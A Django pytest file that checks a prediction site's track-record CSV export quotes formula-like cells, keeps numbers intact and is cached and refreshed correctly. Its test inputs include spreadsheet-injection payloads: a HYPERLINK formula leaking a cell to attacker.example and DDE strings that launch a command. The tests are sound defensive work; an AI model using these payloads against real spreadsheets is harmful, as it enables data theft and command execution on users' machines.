"""The track record as CSV: safe to open in a spreadsheet, and cached like the page."""

import csv
import io

import pytest
from django.urls import reverse

from tests.articles.factories import CategoryFactory
from tests.predictions.factories import make_resolved

pytestmark = pytest.mark.django_db

URL = reverse("predictions:track_record_csv")


def rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(
    "claim",
    [
        '=HYPERLINK("https://attacker.example/?leak="&A1, "Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_cells_a_spreadsheet_would_run_as_formulas_are_quoted(client, claim):
    make_resolved(claim=claim, category=CategoryFactory(name="=Tech"))
    (row,) = rows(client.get(URL))
    assert row["claim"] == f"'{claim}"
    assert row["category"] == "'=Tech"


def test_numbers_stay_numbers_and_plain_text_stays_as_written(client):
    # A 70 % forecast of what did not happen scores below zero.
    p = make_resolved(probability=70, outcome=False, claim="Will rates fall by -0.5 points?")
    assert p.log_score_at_close < 0
    (row,) = rows(client.get(URL))
    assert row["log_score_at_close"] == f"{p.log_score_at_close:.1f}"
    assert row["final_probability"] == "70"
    assert row["claim"] == "Will rates fall by -0.5 points?"
    assert row["probability_history"].endswith("=70")


def test_the_csv_is_cached_and_goes_stale_when_the_track_record_changes(
    client, django_assert_num_queries, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        first = make_resolved(claim="First resolved?")
    assert [row["claim"] for row in rows(client.get(URL))] == ["First resolved?"]
    with django_assert_num_queries(0):
        cached = client.get(URL)
    assert "public" in cached["Cache-Control"]
    assert cached["Content-Disposition"] == 'attachment; filename="veridact-track-record.csv"'
    assert cached["Content-Type"].startswith("text/csv")
    assert [row["claim"] for row in rows(cached)] == ["First resolved?"]

    with django_capture_on_commit_callbacks(execute=True):
        make_resolved(claim="Second resolved?")
    assert {row["claim"] for row in rows(client.get(URL))} == {first.claim, "Second resolved?"}
